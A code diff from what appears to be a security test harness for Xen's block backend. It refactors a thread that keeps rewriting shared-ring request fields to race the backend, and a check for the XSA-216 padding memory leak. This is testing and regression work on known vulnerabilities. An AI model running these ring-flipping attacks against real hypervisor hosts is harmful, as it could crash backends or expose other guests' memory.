@@ -243,11 +243,9 @@ static struct {
 
 static void *flip(void *arg)
 {
-	union blkif_sring_entry *ring = &blkfront_raw_ring(flipper.bf)->ring[0];
-
 	while (!flipper.stop) {
-		for (int i = 0; i < 32; i++) {
-			volatile blkif_request_t *r = &(ring + i)->req;
+		for (RING_IDX i = 0; i < blkfront_entries(flipper.bf); i++) {
+			volatile blkif_request_t *r = blkfront_raw_entry(flipper.bf, i);
 
 			r->nr_segments = 255;
 			r->seg[0].last_sect = 255;
@@ -284,21 +282,18 @@ static void attack_flip(struct blkfront *bf)
 /* XSA-216: an answer's padding must not carry the backend's memory.  Padding: 9, and 12 to 15. */
 static void attack_padding(struct blkfront *bf)
 {
-	union blkif_sring_entry *ring = &blkfront_raw_ring(bf)->ring[0];
-	RING_IDX at = blkfront_raw_prod(bf) % blkfront_entries(bf);
 	blkif_request_t r = good_read(bf, 0xaaaaaaaaaaaaaaaaU);
+	uint8_t *raw = blkfront_raw_entry(bf, blkfront_raw_prod(bf));
 	blkif_response_t rsp;
-	const uint8_t *raw = (const uint8_t *)&ring[at];
-	bool leak = false;
+	bool leak;
 
 	blkfront_raw_put(bf, &r);
-	memset((char *)&ring[at] + 4, 0xaa, 4);
 	blkfront_raw_push(bf, blkfront_raw_prod(bf));
 	if (blkfront_raw_response(bf, &rsp, WAIT_MS)) {
 		printf("padding %s\n", no_answer(bf));
 		return;
 	}
-	leak |= raw[9] && raw[9] != ((uint8_t *)&r)[9] && raw[9] != 0xaa;
+	leak = raw[9] && raw[9] != 0xaa;
 	for (int i = 12; i < 16; i++)
 		leak |= raw[i] && raw[i] != 0xaa;
 	printf("padding %s\n", leak ? "leak" : "clean");
